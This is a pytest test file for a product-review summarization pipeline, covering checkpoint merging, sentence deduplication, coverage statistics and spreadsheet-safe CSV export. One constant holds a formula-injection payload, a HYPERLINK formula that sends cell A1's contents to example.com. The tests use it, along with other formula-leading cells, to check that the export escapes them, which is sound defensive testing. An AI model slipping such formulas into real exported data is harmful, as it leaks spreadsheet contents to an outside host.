from __future__ import annotations

import csv
import hashlib
import io
import json

import polars as pl
import pytest

from reviewsum_assets.checkpoints.manifest import (
    QuarantinedProduct,
    decode_rows,
    read_manifests,
    require_summaries,
)
from reviewsum_assets.checkpoints.merge import (
    COVERAGE_COLUMNS,
    MERGED_PARQUET_SCHEMA,
    MERGED_SCHEMA,
    MergedStatistics,
    as_text,
    current_merged_table,
    merge_checkpoints,
    merged_statistics,
)
from reviewsum_assets.errors import CheckpointError
from reviewsum_assets.lake_state import lake_status, verify_lake
from reviewsum_assets.settings import MergeSettings
from reviewsum_assets.storage import places
from reviewsum_assets.storage.lake import Lake
from tests.support.checkpoints import complete, grouped, plan_products, products

COMMAND = '=HYPERLINK("http://example.com?"&A1,"more, here")'


def merged_rows(lake: Lake) -> dict[str, tuple[str, int]]:
    rows = decode_rows(lake.get(places.MERGED_CSV) or b"")
    table = {row.product_id: (row.abstracted_summary, row.review_count) for row in rows}
    assert len(table) == len(rows)
    return table


def reads(lake: Lake) -> dict[str, tuple[int | None, int | None]]:
    table = pl.read_parquet(io.BytesIO(lake.get(places.MERGED_PARQUET) or b""))
    columns = table.select("product_id", *COVERAGE_COLUMNS.names())
    return {product: (read, cut) for product, read, cut in columns.iter_rows()}


def test_csv_and_parquet_hold_the_same(any_lake: Lake) -> None:
    texts = {"a": 'quotes " and, commas', "b": "two\nlines", "c": "ünïcode 🎧", "d": ""}
    plan = plan_products(any_lake, texts, checkpoint_size=2).plan
    complete(any_lake, plan)
    merged = merge_checkpoints(any_lake, plan)
    assert (merged.rows, merged.completeness) == (4, 1.0)
    table = pl.read_parquet(io.BytesIO(any_lake.get(places.MERGED_PARQUET) or b""))
    assert table.schema == MERGED_PARQUET_SCHEMA
    contract = table.select(MERGED_SCHEMA.names())
    assert {row[0]: row[1:] for row in contract.iter_rows()} == merged_rows(any_lake)
    assert merge_checkpoints(any_lake, plan) == merged, "merged twice, it is the same"


def test_the_parquet_table_tells_how_many_reviews_were_read(lake: Lake) -> None:
    texts = {"a": "one more\ntwo\nthree", "b": "all of it"}
    counts = {"a": 3, "b": 1, "c": 3}
    plan = plan_products(lake, texts, counts=counts, max_chars=9, separable=True).plan
    complete(lake, plan)
    merge_checkpoints(lake, plan)
    assert reads(lake) == {"a": (1, 1), "b": (1, 0)}
    texts = {"b": "all of it", "c": "one line of three reviews"}
    plan = plan_products(lake, texts, counts=counts, max_chars=9, max_vanished_share=1).plan
    complete(lake, plan, numbers=[2])
    merge_checkpoints(lake, plan)
    assert reads(lake) == {"b": (1, 0), "c": (None, None)}


def test_the_parquet_table_has_each_side_in_a_column_of_its_own(lake: Lake) -> None:
    texts = {
        "both": 'all "good", Disliked: no\nodd\n  bad, with commas',
        "liked": "good\nfine",
        "disliked": "bad",
    }
    stars = {"both": [5.0, 5.0, 1.0], "liked": [4.0, 5.0], "disliked": [3.5]}
    plan = plan_products(lake, texts, stars=stars, strategy="two_sided", version="grouped-1").plan
    complete(lake, plan)
    merge_checkpoints(lake, plan)
    both = ('all "good", Disliked: no\nodd', "  bad, with commas")
    assert sides(lake) == {"both": both, "liked": ("good\nfine", None), "disliked": (None, "bad")}
    assert merged_rows(lake)["both"][0] == f"Liked: {both[0]} Disliked: {both[1]}"
    # A summary that only looks as if it had sides has none.
    plan = plan_products(lake, texts, stars=stars, version="grouped-2").plan
    complete(lake, plan, numbers=[2], texts={"both": "Liked: this. Disliked: that."})
    merge_checkpoints(lake, plan)
    assert set(sides(lake).values()) == {(None, None)}


def test_each_side_says_nothing_twice_and_has_its_half_of_the_words(lake: Lake) -> None:
    praise = "The sound is rich and full. The sound is full and rich. Setup takes a minute."
    complaint = "The battery is dead after a week. The sound is rich and full."
    texts, stars = {"a": f"{praise}\n{complaint}", "b": praise}, {"a": [5.0, 1.0], "b": [4.0]}
    plan = plan_products(lake, texts, stars=stars, strategy="two_sided").plan
    complete(lake, plan)
    merge_checkpoints(lake, plan)
    once = "The sound is rich and full. Setup takes a minute."
    assert sides(lake) == {"a": (once, complaint), "b": (once, None)}
    # Of 16 words the labels are two. One side alone has all of them but its label.
    merge_checkpoints(lake, plan, MergeSettings(summary_words=16))
    liked, disliked = sides(lake)["a"]
    assert liked == "The sound is rich and full."
    assert disliked is not None
    assert disliked in complaint and 1 < len(disliked.split()) <= 7
    assert sides(lake)["b"] == (once, None)
    assert merged_rows(lake)["a"][0] == f"Liked: {liked} Disliked: {disliked}"
    merge_checkpoints(lake, plan, MergeSettings(repeated_sentences="keep"))
    assert sides(lake)["a"] == (praise, complaint)


def sides(lake: Lake) -> dict[str, tuple[str | None, str | None]]:
    table = pl.read_parquet(io.BytesIO(lake.get(places.MERGED_PARQUET) or b""))
    columns = table.select("product_id", "liked", "disliked")
    return {product: (liked, disliked) for product, liked, disliked in columns.iter_rows()}


def test_a_table_with_the_columns_of_an_earlier_version_is_merged_again(lake: Lake) -> None:
    plan = plan_products(lake, products(3)).plan
    complete(lake, plan)
    merged = merge_checkpoints(lake, plan)
    status = lake_status(lake)
    assert status is not None and status.is_merged
    # Earlier versions hashed the checksums alone.
    (manifest,) = read_manifests(lake, [1])
    digest = hashlib.sha256(json.dumps([(1, manifest.csv_sha256)]).encode()).hexdigest()
    assert digest != merged.merged_from
    older = merged.model_copy(update={"merged_from": digest})
    lake.put(places.MERGED_MANIFEST, older.sealed())
    status = lake_status(lake)
    assert status is not None and not status.is_merged


def test_a_product_comes_from_its_newest_checkpoint_with_the_plans_review_count(
    lake: Lake,
) -> None:
    texts = {"a": "old", "b": "same", "c": "no longer selected"}
    complete(lake, plan_products(lake, texts, counts={"a": 5, "b": 5, "c": 1}).plan)
    plan = plan_products(
        lake,
        {**texts, "a": "new"},
        counts={"a": 6, "b": 9, "c": 1},
        version="grouped-2",
        top_k=2,
    ).plan
    complete(lake, plan, numbers=[2])
    merge_checkpoints(lake, plan)
    assert merged_rows(lake) == {"a": ("summary of new", 6), "b": ("summary of same", 9)}


def test_quarantined_products_are_counted_and_not_merged(lake: Lake) -> None:
    plan = plan_products(lake, products(3)).plan
    complete(lake, plan, poison=["P000001"])
    merged = merge_checkpoints(lake, plan)
    assert (merged.rows, merged.quarantined, merged.completeness) == (2, 1, 1.0)


def test_a_plan_without_any_summary_is_not_merged_and_the_old_table_stays(lake: Lake) -> None:
    complete(lake, plan_products(lake, products(3)).plan)
    merge_checkpoints(lake, plan_products(lake, products(3)).plan)
    before = lake.get(places.MERGED_CSV)
    plan = plan_products(lake, products(3), max_length=99).plan
    complete(lake, plan, poison=products(3))
    with pytest.raises(CheckpointError, match=r"all 3 are in quarantine, 3 of them for.*: poison"):
        merge_checkpoints(lake, plan)
    assert lake.get(places.MERGED_CSV) == before


def test_the_most_frequent_reason_is_named_without_its_place_in_a_product() -> None:
    reasons = ["liked, chunk 1 of 3: slow", "level 2, chunk 2 of 2: slow", "no text to summarize"]
    bad = [QuarantinedProduct(product_id=r, input_hash="", reason=r) for r in reasons]
    with pytest.raises(CheckpointError, match=r"all 3 are in quarantine, 2 of them.*: slow"):
        require_summaries(0, bad)
    require_summaries(1, bad)
    require_summaries(0, [])


def test_a_missing_checkpoint_fails_the_merge_by_name_unless_it_may_lack(lake: Lake) -> None:
    complete(lake, plan_products(lake, products(2)).plan)
    merge_checkpoints(lake, plan_products(lake, products(2)).plan)
    before = lake.get(places.MERGED_CSV)
    plan = plan_products(lake, {**products(2), "new": "x"}, version="grouped-2").plan
    with pytest.raises(CheckpointError, match=r"checkpoint_00002 \(missing: no manifest\)"):
        merge_checkpoints(lake, plan)
    assert lake.get(places.MERGED_CSV) == before
    merged = merge_checkpoints(lake, plan, allow_incomplete=True)
    assert (merged.rows, merged.incomplete_checkpoints) == (2, (2,))
    assert merged.completeness == pytest.approx(2 / 3)
    assert current_merged_table(lake) == merged
    lake.delete(places.checkpoint_manifest(1))
    with pytest.raises(CheckpointError, match="2 of 2 checkpoints cannot be merged"):
        merge_checkpoints(lake, plan, allow_incomplete=True)


@pytest.mark.parametrize(
    "cell",
    ["=1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1"],  # noqa: RUF001
)
def test_a_cell_that_begins_like_a_formula_becomes_a_text(cell: str) -> None:
    assert as_text(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "B001", "Good = cheap", "'=1", "5-star"])
def test_other_texts_stay_as_they_are(cell: str) -> None:
    assert as_text(cell) == cell


def test_a_table_for_spreadsheets_has_no_formulas_and_does_not_outlive_the_next_merge(
    any_lake: Lake,
) -> None:
    plan = plan_products(any_lake, {"-P1": "text", "P2": "text"}).plan
    complete(any_lake, plan, texts={"-P1": COMMAND, "P2": "Café, good."})
    merge_checkpoints(any_lake, plan, MergeSettings(spreadsheet_csv=True))
    found = (any_lake.get(places.MERGED_SPREADSHEET) or b"").decode("utf-8-sig")
    assert list(csv.reader(found.splitlines()))[1:] == [
        ["'-P1", f"'{COMMAND}", "1000"],
        ["P2", "Café, good.", "999"],
    ]
    assert merged_rows(any_lake)["-P1"] == (COMMAND, 1000)
    assert verify_lake(any_lake) == []
    any_lake.put(places.MERGED_SPREADSHEET, b"changed")
    (problem,) = verify_lake(any_lake)
    assert problem.startswith(f"{places.MERGED_SPREADSHEET} is not the file that was merged")
    merge_checkpoints(any_lake, plan)
    assert any_lake.head(places.MERGED_SPREADSHEET) is None
    assert verify_lake(any_lake) == []


SAID_TWICE = "Great sound. It broke after a week. The sound is great. Easy to use."


def test_no_sentence_is_said_twice_in_the_merged_table(any_lake: Lake) -> None:
    plan = plan_products(any_lake, {"a": "text", "b": "text"}).plan
    complete(any_lake, plan, texts={"a": SAID_TWICE, "b": "Another one."})
    before = any_lake.get(places.checkpoint_csv(1))
    merged = merge_checkpoints(any_lake, plan)
    assert merged_rows(any_lake)["a"][0] == "Great sound. It broke after a week. Easy to use."
    assert merged_rows(any_lake)["b"][0] == "Another one."
    kept = MergeSettings(repeated_sentences="keep")
    assert merge_checkpoints(any_lake, plan, kept).csv_sha256 != merged.csv_sha256
    assert merged_rows(any_lake)["a"][0] == SAID_TWICE
    assert any_lake.get(places.checkpoint_csv(1)) == before


@pytest.mark.parametrize("separable", [True, False])
def test_a_long_summary_keeps_the_sentences_that_most_reviews_support(
    lake: Lake, separable: bool
) -> None:
    reviews = "It broke after one week.\nIt broke after a week.\nIt broke. It is easy to use."
    text = reviews if separable else reviews.replace("\n", " ")
    plan = plan_products(
        lake, {"a": text, "b": text}, counts={"a": 3, "b": 3}, separable=separable
    ).plan
    complete(lake, plan, texts={"a": SAID_TWICE, "b": "Great sound."})
    merge_checkpoints(lake, plan, MergeSettings(summary_words=9))
    assert merged_rows(lake)["a"][0] == "It broke after a week. Easy to use."
    assert merged_rows(lake)["b"][0] == "Great sound."
    merge_checkpoints(lake, plan, MergeSettings(summary_words=1))
    assert merged_rows(lake)["a"][0] == "It broke after a week."


def test_without_its_reviews_no_summary_is_shortened(lake: Lake) -> None:
    plan = plan_products(lake, {"a": "text"}).plan
    complete(lake, plan, texts={"a": SAID_TWICE})
    merge_checkpoints(lake, plan)
    lake.delete(plan.checkpoints[0].input_key)
    before = merged_rows(lake)
    with pytest.raises(CheckpointError, match=r"the reviews that checkpoint_00001 was made of"):
        merge_checkpoints(lake, plan, MergeSettings(summary_words=5))
    assert merged_rows(lake) == before


COUNTS = {"P000000": 25, "P000001": 12, "P000002": 7, "P000003": 5_000}


def figures(lake: Lake, words: int, poison: list[str]) -> MergedStatistics:
    """Figures of four products' summaries, the first of them one word longer than ``words``."""
    texts = products(4)
    plan = plan_products(lake, texts, counts=COUNTS).plan
    summaries = dict.fromkeys(texts, "word " * words)
    complete(lake, plan, poison=poison, texts={**summaries, "P000000": "word " * (words + 1)})
    merge_checkpoints(lake, plan)
    # The grouped table may count in another type.
    counted = grouped(texts, COUNTS).with_columns(pl.col("review_count").cast(pl.UInt32))
    return merged_statistics(lake, counted)


def test_words_and_covered_reviews_are_counted_by_class(lake: Lake) -> None:
    found = figures(lake, words=4, poison=["P000001"])
    assert (found.words, found.reviews_covered) == (13, 5_032)
    assert found.lengths == ((0, 4, 2), (5, 9, 1))
    assert found.review_coverage == pytest.approx(5_032 / 5_044)
    assert [tuple(one) for one in found.classes] == [
        (5, 9, 7, 7),
        (10, 19, 12, 0),
        (20, 49, 25, 25),
        (5_000, None, 5_000, 5_000),
    ]
    assert merged_statistics(lake, None).review_coverage is None, "nothing is known of others"


def test_bins_grow_with_the_longest_summary(lake: Lake) -> None:
    found = figures(lake, words=599, poison=[])
    assert found.lengths == ((500, 599, 3), (600, 699, 1))


def test_reads_are_counted_by_class(lake: Lake) -> None:
    counts = {"a": 3, "b": 2, "c": 7}
    # Of a grouped CSV it is not known, also when dumps of reviews give the same text later.
    first = plan_products(lake, {"c": "three reviews on one line"}, counts=counts, max_chars=9)
    complete(lake, first.plan)
    texts = {"a": "one more\ntwo\nthree", "b": "one\ntwo", "c": "three rev"}
    both = plan_products(lake, texts, counts=counts, max_chars=9, separable=True)
    assert (both.new, both.unchanged) == (2, 1)
    complete(lake, both.plan, numbers=both.added)
    merge_checkpoints(lake, both.plan)
    found = merged_statistics(lake, None)
    assert [tuple(one) for one in found.reads] == [(0, 4, 5, 3)]
    assert found.reviews_cut == 1
